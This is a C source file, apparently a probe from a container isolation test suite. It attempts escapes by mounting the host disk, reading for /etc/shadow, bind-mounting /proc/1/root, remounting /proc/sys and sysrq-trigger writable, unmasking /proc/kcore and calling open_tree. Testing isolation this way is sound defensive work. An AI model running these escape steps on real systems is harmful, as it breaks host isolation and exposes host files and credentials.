/* Mounts the host's disk, binds the host's root out of /proc, makes read-only places writable again. argv: marker MAJOR MINOR */
#include "attack.h"
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

static bool mount_disk(unsigned major, unsigned minor, const char *marker)
{
        char path[256];
        mkdir("/tmp/disk", 0700);
        if (mknod("/tmp/disk-node", S_IFBLK | 0600, makedev(major, minor)) < 0)
                return false;
        if (mount("/tmp/disk-node", "/tmp/disk", "ext4", MS_RDONLY, NULL) < 0)
                return false;
        snprintf(path, sizeof(path), "/tmp/disk%s", marker);
        return sees(path) || sees("/tmp/disk/etc/shadow");
}

static bool bind_from(const char *source, const char *marker)
{
        char path[4096];
        mkdir("/tmp/bound", 0700);
        if (mount(source, "/tmp/bound", NULL, MS_BIND | MS_REC, NULL) < 0)
                return false;
        snprintf(path, sizeof(path), "/tmp/bound%s", marker);
        bool through = sees(path);
        umount2("/tmp/bound", MNT_DETACH);
        return through;
}

/* A read-only place of the engine made writable is a step of an escape, so it counts as one. */
static bool writable_again(const char *path, const char *file)
{
        if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) < 0)
                return false;
        int fd = open(file, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
                return false;
        close(fd);
        return true;
}

static bool uncovered(const char *path)
{
        struct stat before, after;
        if (stat(path, &before) < 0)
                return false;
        if (umount2(path, MNT_DETACH) < 0)
                return false;
        return stat(path, &after) == 0 && (before.st_dev != after.st_dev || before.st_ino != after.st_ino) && access(path, R_OK) == 0;
}

int main(int argc, char **argv)
{
        if (argc != 4)
                return 2;
        attempt("mount the host's disk", mount_disk((unsigned)strtoul(argv[2], NULL, 10), (unsigned)strtoul(argv[3], NULL, 10), argv[1]));
        attempt("bind /proc/1/root", bind_from("/proc/1/root", argv[1]));
        attempt("bind /proc/1/cwd", bind_from("/proc/1/cwd", argv[1]));
        attempt("bind / recursively", bind_from("/", argv[1]));
        attempt("remount /proc/sys writable", writable_again("/proc/sys", "/proc/sys/kernel/core_pattern"));
        attempt("remount /proc/sysrq-trigger writable", writable_again("/proc/sysrq-trigger", "/proc/sysrq-trigger"));
        attempt("uncover /proc/kcore", uncovered("/proc/kcore"));
        attempt("uncover /sys/firmware", uncovered("/sys/firmware"));
        attempt("open_tree of the host's root through pid 1", syscall(SYS_open_tree, -1, "/proc/1/root/..", 1) >= 0 && sees(argv[1]));
        return verdict();
}
